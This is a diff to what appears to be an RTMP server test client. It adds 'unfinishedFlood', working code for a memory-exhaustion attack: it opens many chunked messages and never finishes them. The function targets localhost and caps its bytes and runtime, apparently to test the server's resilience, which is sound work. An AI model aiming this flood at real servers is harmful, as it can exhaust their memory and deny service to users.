@@ -128,3 +128,88 @@ export class RtmpTestClient {
     this.socket.destroy();
   }
 }
+
+// ---- attacks ---------------------------------------------------------------------------------------
+
+export interface UnfinishedFloodOptions {
+  /** The chunk size announced with Set Chunk Size before anything else. */
+  chunkSize: number;
+  /** Messages opened at once, each on its own chunk stream (at most 60). */
+  streams: number;
+  /** The length each message declares; none is ever finished. */
+  messageBytes: number;
+  /** Stop after this many bytes written (kept below what would finish a message). */
+  maxBytes: number;
+  timeoutMs: number;
+}
+
+export interface FloodResult {
+  /** Bytes the socket accepted. */
+  sent: number;
+  /** The server ended the connection before the attacker stopped. */
+  closedByServer: boolean;
+}
+
+/**
+ * One attacking connection: handshake, Set Chunk Size, then `streams` messages of `messageBytes`
+ * opened on chunk streams 3.. and fed one chunk each in turn, never finished: the shape of the
+ * unfinished-message memory attack. Bounded by `maxBytes` and `timeoutMs`.
+ */
+export function unfinishedFlood(port: number, o: UnfinishedFloodOptions): Promise<FloodResult> {
+  if (o.streams > 60) throw new RangeError('one-byte basic headers only: at most 60 chunk streams');
+  const payloadLimit = Math.min(o.maxBytes, (o.messageBytes - 1) * o.streams);
+  return new Promise((resolve) => {
+    const sock = net.connect(port, '127.0.0.1');
+    let hs = Buffer.alloc(0);
+    let sent = 0;
+    let payloadSent = 0;
+    let done = false;
+    const finish = (closedByServer: boolean) => {
+      if (done) return;
+      done = true;
+      clearTimeout(timer);
+      sock.destroy();
+      resolve({ sent, closedByServer });
+    };
+    const timer = setTimeout(() => finish(false), o.timeoutMs);
+    sock.on('error', () => undefined);
+    sock.on('close', () => finish(true));
+    const c0c1 = Buffer.alloc(1 + HANDSHAKE_BYTES);
+    c0c1[0] = 3;
+    sock.write(c0c1);
+    // One round: a type-3 chunk (basic header, chunkSize bytes) on every chunk stream, repeated up to ~64 KiB.
+    const round = Buffer.concat(Array.from({ length: o.streams }, (_, i) => Buffer.concat([Buffer.from([0xc0 | (3 + i)]), Buffer.alloc(o.chunkSize, 0x55)])));
+    const block = Buffer.concat(Array.from({ length: Math.max(1, Math.floor(65536 / round.length)) }, () => round));
+    const perBlock = (block.length / round.length) * o.streams * o.chunkSize;
+    const pump = () => {
+      while (!done && payloadSent + perBlock <= payloadLimit) {
+        sent += block.length;
+        payloadSent += perBlock;
+        if (!sock.write(block)) return;
+      }
+      if (!done && payloadSent + perBlock > payloadLimit) finish(false);
+    };
+    sock.on('drain', pump);
+    sock.on('data', (d: Buffer) => {
+      if (hs === null || hs.length >= 1 + 2 * HANDSHAKE_BYTES) return;
+      hs = Buffer.concat([hs, d]);
+      if (hs.length < 1 + 2 * HANDSHAKE_BYTES) return;
+      const size = Buffer.alloc(4);
+      size.writeUInt32BE(o.chunkSize);
+      const setSize = Buffer.concat([Buffer.from([0x02, 0, 0, 0, 0, 0, 4, MSG_SET_CHUNK_SIZE, 0, 0, 0, 0]), size]);
+      // Each message opens with a type-0 header and its first chunk.
+      const opens = Array.from({ length: o.streams }, (_, i) => {
+        const h = Buffer.alloc(12);
+        h[0] = 3 + i;
+        h.writeUIntBE(o.messageBytes, 4, 3);
+        h[7] = 9;
+        h.writeUInt32LE(1, 8);
+        return Buffer.concat([h, Buffer.alloc(o.chunkSize, 0x55)]);
+      });
+      const first = Buffer.concat([hs.subarray(1, 1 + HANDSHAKE_BYTES), setSize, ...opens]);
+      sent += first.length;
+      payloadSent += o.streams * o.chunkSize;
+      if (sock.write(first)) pump();
+    });
+  });
+}
